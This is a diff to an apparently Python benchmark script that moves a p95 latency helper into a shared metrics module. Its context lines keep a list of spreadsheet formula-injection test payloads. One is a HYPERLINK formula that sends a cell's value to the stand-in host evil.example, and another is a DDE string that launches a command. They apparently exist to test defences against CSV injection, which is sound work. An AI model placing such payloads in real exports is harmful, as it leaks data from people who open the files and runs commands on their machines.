@@ -14,7 +14,6 @@ import csv
 import io
 import os
 import secrets
-import statistics
 import tempfile
 import sys
 import threading
@@ -29,12 +28,10 @@ sys.path.insert(0, str(PROJECT_ROOT / "tests"))  # the launchers the tests use (
 from support.launch import start_app  # noqa: E402
 from load import free_port  # bench/load.py, beside this script
 
+from assistant.evaluation.metrics import p95  # noqa: E402
+
 PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&B2,"Klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "\r=1+2", "\t=1+2"]
 FEEDBACK_LIMIT = "100/minute"
-
-
-def p95(values: list[float]) -> float:
-    return statistics.quantiles(values, n=20, method="inclusive")[-1] if len(values) > 1 else values[0]
 
 
 def ask_latencies(url: str, seconds: float, stop: threading.Event | None = None) -> list[float]:
